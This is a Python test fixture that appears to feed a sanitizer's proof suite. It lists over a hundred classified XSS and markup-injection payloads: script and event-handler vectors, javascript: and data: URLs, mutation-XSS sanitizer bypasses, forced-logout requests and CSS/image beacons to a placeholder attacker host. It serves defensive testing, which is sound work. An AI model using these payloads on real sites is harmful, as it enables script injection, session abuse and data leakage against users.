"""150 ways, by class, in which markup tries to run script, contact the network or control the page around it.

In `make prove` their mutants follow.

RAN stands for a script that logs to the console, EVIL for a foreign URL, both without quotes.
"""

from __future__ import annotations

from tests.proofs.rigs import mutants
from tests.proving import size

SCRIPTS = [
    "<script>RAN</script>",
    "<ScRiPt>RAN</sCrIpT>",
    "<script src=EVIL/x.js></script>",
    "<script type=module>RAN</script>",
    "<script type=module src=EVIL/x.mjs></script>",
    "<script async src=EVIL/x.js></script>",
    "<script src='data:text/javascript,RAN'></script>",
    "<script\t\n>RAN</script\t>",
    "<script/x>RAN</script>",
    "<script>/*</p>*/RAN//</script>",
    "<script><!--\nRAN\n//--></script>",
    "<<script>RAN//<</script>",
    "<scr<script>ipt>RAN</scr</script>ipt><script>RAN</script>",
    "<noscript><img src=x onerror=RAN></noscript><script>RAN</script>",
    "<script nonce=x>RAN</script>",
]
HANDLERS = [
    "<img src=x onerror=RAN>",
    "<img/src='x'/onerror=RAN>",
    "<img src=x oNeRrOr=RAN>",
    "<img src=x onerror\n=\nRAN>",
    "<img src=x onerror=&#99;onsole.log(/ranN/)>",
    "<img src=x onerror='&#x63;onsole&period;log&lpar;/ranN/&rpar;'>",
    "<img src=x\x0conerror=RAN>",
    "<img src='x' alt='`'onerror=RAN '`'>",
    "<img src='data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7' onload=RAN>",
    "<body onload=RAN onpageshow=RAN onresize=RAN>",
    "<p onclick=RAN onmouseover=RAN onpointerenter=RAN>x</p>",
    "<p tabindex=1 onfocus=RAN autofocus>x</p>",
    "<input autofocus onfocus=RAN oninput=RAN>",
    "<textarea autofocus onfocus=RAN></textarea>",
    "<select autofocus onfocus=RAN onchange=RAN><option>x</select>",
    "<button onclick=RAN autofocus onfocus=RAN>x</button>",
    "<details open ontoggle=RAN><summary>x</summary></details>",
    "<video onerror=RAN><source src=x onerror=RAN></video>",
    "<audio src=x onerror=RAN autoplay></audio>",
    "<video autoplay onloadstart=RAN src=EVIL/x.mp4 poster=EVIL/x.png></video>",
    "<label onclick=RAN>x<input onfocusin=RAN></label>",
    "<p style='animation: gf-blink 1s' onanimationstart=RAN>x</p><style>@keyframes gf-blink {}</style>",
    "<div style='width:1px;height:1px;overflow:auto' onscroll=RAN tabindex=0><p style=height:9px>x</p></div>",
    "<div contenteditable autofocus onfocus=RAN onbeforeinput=RAN>x</div>",
    "<object data=x onerror=RAN></object>",
    "<link rel=stylesheet href=x onerror=RAN>",
    "<style onload=RAN></style>",
    "<iframe onload=RAN></iframe>",
    "<x-evil onclick=RAN onmouseover=RAN tabindex=0 onfocus=RAN autofocus>x</x-evil>",
    "<p hidden onbeforematch=RAN onclick=RAN>x</p><button popovertarget=gf onbeforetoggle=RAN>x</button>"
    "<div id=gf popover onbeforetoggle=RAN ontoggle=RAN>x</div>",
]
DRAWINGS = [
    "<svg onload=RAN></svg>",
    "<svg/onload=RAN>",
    "<svg><script>RAN</script></svg>",
    "<svg><script href=EVIL/x.js /></svg>",
    "<svg><script xlink:href='data:,RAN'></script></svg>",
    "<svg><a xlink:href='javascript:RAN'><text y=9>x</text></a></svg>",
    "<svg><a href='javascript:RAN'><circle r=99 /></a></svg>",
    "<svg><animate onbegin=RAN attributeName=x dur=1s></svg>",
    "<svg><set onbegin=RAN attributeName=x to=1></svg>",
    "<svg><a><animate attributeName=href values='javascript:RAN' /><text y=9>x</text></a></svg>",
    "<svg><image href=EVIL/x.png /></svg>",
    "<svg><image href=x onerror=RAN /></svg>",
    "<svg><image xlink:href=EVIL/x.png /></svg>",
    "<svg><foreignObject><img src=x onerror=RAN></foreignObject></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>RAN</script>'></iframe></foreignObject></svg>",
    "<svg><style>@import 'EVIL/x.css';</style></svg>",
    "<svg><desc><img src=x onerror=RAN></desc></svg>",
    "<svg><title><img src=x onerror=RAN></title></svg>",
    "<svg><feImage href=EVIL/x.png /><filter id=f><feImage href=EVIL/x.png /></filter><rect filter='url(#f)' /></svg>",
    "<math><mtext><img src=x onerror=RAN></mtext></math>",
    "<math onclick=RAN><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=RAN></annotation-xml></math>",
    "<math><mi tabindex=0 onfocus=RAN>x</mi></math>",
    "<math><mtext><a href='javascript:RAN'>x</a></mtext></math>",
]
ADDRESSES = [
    "<a href='javascript:RAN'>x</a>",
    "<a href='JaVaScRiPt:RAN'>x</a>",
    "<a href='java&Tab;script:RAN'>x</a>",
    "<a href='java&NewLine;script&colon;RAN'>x</a>",
    "<a href='&#1;javascript:RAN'>x</a>",
    "<a href='  &#14;javascript:RAN'>x</a>",
    "<a href='javascript://%0aRAN'>x</a>",
    "<a href='data:text/html,<script>RAN</script>'>x</a>",
    "<a href='data:text/html;charset=x,%3Cscript%3ERAN%3C%2Fscript%3E'>x</a>",
    "<a href=EVIL/ target=_top>x</a>",
    "<a href=EVIL/ target=_blank rel=opener>x</a>",
    "<a href=EVIL/ target=_parent ping=EVIL/ping>x</a>",
    "<a href=EVIL/file download>x</a>",
    "<a href=/logout/ target=_top>x</a>",
    "<map name=m><area shape=default href='javascript:RAN'></map><img src=x usemap=#m>",
    "<div><a href='javascript:void(RAN)' rel=noreferrer><b>x</b></a></div>",
]
EMBEDDED = [
    "<iframe src='javascript:RAN'></iframe>",
    "<iframe src='data:text/html,<script>RAN</script>'></iframe>",
    "<iframe srcdoc='<script>RAN</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=RAN&gt;'></iframe>",
    "<iframe src=EVIL/></iframe>",
    "<iframe src=/></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' srcdoc='<script>RAN</script>'></iframe>",
    "<object data=x><img src=x onerror=RAN></object>",
    "<object data='data:text/html,<script>RAN</script>'></object>",
    "<object data=EVIL/x type=text/html></object>",
    "<embed src=EVIL/x.html type=text/html>",
    "<embed src=EVIL/x.svg type=image/svg+xml>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RAN"></svg>\'>',
    "<iframe srcdoc='<frameset onload=RAN><frame src=x></frameset>'></iframe>",
    "<iframe name=gf></iframe><a target=gf href='javascript:RAN'>x</a>",
]
NAVIGATION = [
    "<meta http-equiv=refresh content='0;url=EVIL/'>",
    "<meta http-equiv=REFRESH content='0, &#x68;ttp:EVIL/'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>RAN</script>'>",
    "<meta http-equiv=refresh content='0;url=/'>",
    "<meta http-equiv=refresh content='0;url=/logout/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\"><script>RAN</script>",
    "<base href=EVIL/><img src=x.png><a href=x>x</a>",
    "<base target=_top><a href=/logout/>x</a>",
    "<link rel=prefetch href=EVIL/>",
    "<link rel=preload as=script href=EVIL/x.js>",
    "<link rel=modulepreload href=EVIL/x.mjs>",
    "<link rel=preload as=image imagesrcset='EVIL/x.png 1x'>",
    "<link rel=stylesheet href=EVIL/x.css>",
    "<link rel='alternate stylesheet' title=x href=EVIL/x.css>",
    "<link rel=preload as=font crossorigin href=EVIL/x.woff2>",
]
FORMS = [
    "<form action=EVIL/><button>x</button></form>",
    "<form action='javascript:RAN'><button>x</button></form>",
    "<form method=post action=/logout/ target=_top><button>x</button></form>",
    "<form><button formaction='javascript:RAN'>x</button></form>",
    "<form><input type=submit formaction=EVIL/ value=x></form>",
    "<form id=gf></form><button form=gf formaction=EVIL/>x</button>",
    "<form><input type=image src=EVIL/x.png alt=x></form>",
    "<form id=gf></form><input type=submit form=gf formaction='javascript:RAN' value=x>",
]
STYLES = [
    "<style>@import 'EVIL/x.css';</style>",
    "<style>@import url(EVIL/x.css);</style>",
    "<style>* { background: url(EVIL/x.png) }</style>",
    "<style>@font-face { font-family: f; src: url(EVIL/x.woff2) } * { font-family: f }</style>",
    "<p style='background: url(EVIL/x.png)'>x</p>",
    "<p style='background: \\75rl(EVIL/x.png)'>x</p>",
    "<p style='list-style: url(EVIL/x.png); display: list-item'>x</p>",
    "<p style='background: image-set(\"EVIL/x.png\" 1x)'>x</p>",
    "<p style='cursor: url(EVIL/x.cur), auto; border-image: url(EVIL/x.png) 1'>x</p>",
    "<table background=EVIL/x.png><tr><td background=EVIL/y.png>x</table>",
]
AGAIN = "<iframe srcdoc onload='const all = document.getElementById(`gf`); all.innerHTML += ``'></iframe><div id=gf>{}"
"""Has its own markup parsed a second time, like a sanitizer's output (mXSS)."""
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=RAN>'></noscript>",
    "<svg><template><img src=x onerror=RAN></template></svg>",
    "<div><template shadowrootmode=open><img src=x onerror=RAN></template></div>",
    AGAIN.format("<form><math><mi></form><form><malignmark><style></math><img src=x onerror=RAN>"),
    AGAIN.format("<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RAN>"),
    "<svg></p><style><a id='</style><img src=x onerror=RAN>'>",
    "<xmp><p title='</xmp><img src=x onerror=RAN>'>",
    "<!--><img src=x onerror=RAN>-->",
    "<![CDATA[><img src=x onerror=RAN>]]>",
    "<textarea></p><img title='</textarea><img src=x onerror=RAN>'>",
]
BEACONS = [
    "<img src=EVIL/x.png>",
    "<img srcset='EVIL/x.png 1x' loading=eager>",
    "<picture><source srcset=EVIL/x.png><img src=x></picture>",
]
HTMX = [
    "<div hx-get=/logout/ hx-trigger=load>x</div>",
    "<div data-hx-get=/logout/ data-hx-trigger=load>x</div>",
    "<p hx-on:click=RAN hx-on::load=RAN data-hx-on:click=RAN>x</p>",
    "<a hx-boost=true href=/logout/>x</a><button hx-delete=/logout/ hx-target=body hx-confirm>x</button>",
]
CLASSES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "drawings": DRAWINGS,
    "addresses": ADDRESSES,
    "embedded": EMBEDDED,
    "navigation": NAVIGATION,
    "forms": FORMS,
    "styles": STYLES,
    "mutations": MUTATIONS,
    "beacons": BEACONS,
    "htmx": HTMX,
}
WRITTEN = [payload for payloads in CLASSES.values() for payload in payloads]
SEED = 20119
PAYLOADS = [*WRITTEN, *mutants.of_payloads(WRITTEN, count=size(150, 10_000) - len(WRITTEN), seed=SEED)]


def armed(number: int, evil: str) -> str:
    """A payload that logs its own number when it runs, and requests such URLs from `evil`, a host and port."""
    payload = PAYLOADS[number].replace("RAN", "console.log(/ranN/)").replace("EVIL", f"//{evil}/N")
    return payload.replace("ranN", f"ran{number}.").replace(f"//{evil}/N", f"//{evil}/{number}")
